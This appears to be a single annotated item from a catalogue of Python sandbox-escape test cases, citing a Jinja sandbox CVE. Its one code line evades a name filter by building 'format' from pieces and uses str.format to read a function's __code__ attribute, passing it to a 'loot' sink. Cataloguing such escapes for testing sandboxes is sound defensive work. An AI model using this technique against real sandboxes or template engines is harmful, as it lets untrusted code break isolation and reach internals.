# aim: fetch the method by a computed name
# mechanism: getattr
# source: CVE-2025-27516 (Jinja's sandbox)
# language: builtins
# reason: str.format reads the attributes its template names
# jail: process
# plain: loot

import textwrap

loot(getattr("{0.__code__}", "for" + "mat")(textwrap.dedent))
